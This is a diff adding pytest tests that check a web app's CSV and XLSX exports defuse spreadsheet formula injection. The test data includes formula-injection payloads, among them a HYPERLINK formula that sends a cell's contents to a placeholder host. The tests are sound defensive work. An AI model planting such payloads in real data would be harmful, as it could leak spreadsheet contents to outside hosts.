@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import re
+from decimal import Decimal
 
 import pytest
 
@@ -116,3 +117,51 @@ def make_actor():
     from lowrise.actor import Actor
 
     return Actor(name="t", system=True)
+
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&B2,"go")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "＋1",
+            "－1", "＠A1"]
+
+
+@pytest.fixture
+def planted(run):
+    """Clients whose names a spreadsheet would run as formulas, and a deal named like one
+    that links to such a client (the client's name is in the deal's export too)."""
+    made = [make_record(run, "client", name=text) for text in FORMULAS]
+    make_record(run, "deal", title="=1+1", client=made[0]["id"], amount="5")
+    return made
+
+
+def test_csv_export_defuses_formulas(client, signed_in, planted):
+    rows = read_csv(client.get("/r/client/export.csv?sort=id"))
+    assert rows[0][0] == "Name"
+    assert [r[0] for r in rows[1:]] == ["'" + t for t in FORMULAS]
+    deal = read_csv(client.get("/r/deal/export.csv"))[1]
+    assert deal[:2] == ["'=1+1", "'" + FORMULAS[0]]  # the linked client's name too
+    assert deal[3] == "CN¥5.00"
+
+
+def test_text_after_a_tab_or_a_return_is_defused_and_a_negative_number_is_not(run):
+    """A text field trims what it stores; a long text keeps a leading tab or return."""
+    notes = run.workspace.type("client").fields["notes"]
+    for text in ("\t=1+1", "\r=1+1", "-2.5"):
+        assert exporter.cell(notes, text, {}, "en", "UTC", "text") == "'" + text
+    area = run.workspace.type("client").fields["area"]
+    assert exporter.cell(area, Decimal("-2.5"), {}, "en", "UTC", "text") == "-2.5"
+
+
+def test_xlsx_export_writes_formula_text_as_strings(client, signed_in, planted):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    data = client.get("/r/client/export.xlsx?sort=id").get_data()
+    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    assert 't="inlineStr"><is><t>=HYPERLINK(' in xml
+    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
+    assert [r[0] for r in rows[1:]] == FORMULAS  # the text itself, as it was typed
+    deal = client.get("/r/deal/export.xlsx").get_data()
+    xml = zipfile.ZipFile(io.BytesIO(deal)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<t>=1+1</t>" in xml
